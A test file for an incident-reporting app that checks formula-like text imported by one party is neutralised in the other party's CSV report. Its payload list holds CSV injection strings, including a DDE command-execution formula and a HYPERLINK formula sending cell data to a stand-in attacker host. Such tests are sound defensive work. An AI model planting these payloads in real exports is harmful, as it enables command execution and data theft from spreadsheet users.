import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import { useTestApp } from '../../test/helpers/use-test-app.js';

// Finding 5 of issue 7: text one party imports must not reach the other party's spreadsheet as a
// formula. The host imports perpetrators and places that a spreadsheet would run; the partner
// downloads the CSV report.
const payloads = [
  `=cmd|' /C calc'!A0`,
  '+1+2',
  '-2+3',
  '@SUM(A1:A9)',
  ' =HYPERLINK("http://attacker.example/?"&A1,"click")',
];

const header = 'date,date_precision,province,place,type,perpetrator,killed_best,wounded_best,status';

function templateFile(): string {
  const rows = payloads.map(
    (perpetrator, i) =>
      `2024-08-0${i + 1},day,Balochistan,"${payloads[(i + 1) % payloads.length]!.replace(/"/g, '""')}",ied,"${perpetrator.replace(/"/g, '""')}",${i + 1},0,reported`,
  );
  // The period before holds more incidents, so the change in percent is negative.
  for (let i = 0; i < 10; i++) rows.push(`2024-06-${10 + i},day,Sindh,Karachi,ied,TTP,1,0,reported`);
  return [header, ...rows].join('\r\n') + '\r\n';
}

describe('CSV reports across parties', () => {
  const t = useTestApp({
    setup: async () => {
      const imported = await t.request('ssd:analyst', {
        method: 'POST',
        url: '/api/v1/incidents/import?format=jsms',
        headers: { 'content-type': 'text/csv' },
        payload: templateFile(),
      });
      expect(imported.statusCode, imported.body).toBe(200);
      expect(imported.json()).toMatchObject({ added: payloads.length + 10, rejected: [] });
    },
  });

  it('neutralises formula-like text imported by the host in the partner’s CSV report, as a download', async () => {
    const res = await t.request('cso:analyst', {
      method: 'GET',
      url: '/api/v1/reports/period/csv?from=2024-07-14&to=2024-08-31',
    });
    expect(res.statusCode, res.body).toBe(200);
    expect(res.headers['content-type']).toBe('text/csv; charset=utf-8');
    expect(res.headers['content-disposition']).toBe(
      'attachment; filename="jsms-period-report-2024-07-14-to-2024-08-31.csv"',
    );
    expect(res.body).not.toContain(`\r\n=cmd`);
    const cells = (parse(res.body, { relax_column_count: true }) as string[][]).flat();
    // Each payload, trimmed as the import stores it, comes out with a leading quote.
    const perpetrators = (parse(res.body, { columns: true }) as Record<string, string>[])
      .filter((r) => r.section === 'perpetrator')
      .map((r) => r.name);
    expect(perpetrators.sort()).toEqual(payloads.map((p) => `'${p.trim()}`).sort());
    // No cell anywhere in the file starts a formula.
    expect(cells.filter((c) => /^\s*[=+\-@\t\r]/.test(c))).toEqual(['-50']);
    // …the one exception being a figure the code computed: the change against the period before.
    expect(res.body).toMatch(/\r\nchange_percent,,-50,/);
  });

  it('leaves the JSON report as stored: neutralising is for spreadsheets only', async () => {
    const res = await t.request('cso:analyst', {
      method: 'GET',
      url: '/api/v1/reports/period?from=2024-07-14&to=2024-08-31',
    });
    expect(res.json().byPerpetrator.map((g: { name: string }) => g.name)).toContain(`=cmd|' /C calc'!A0`);
  });
});
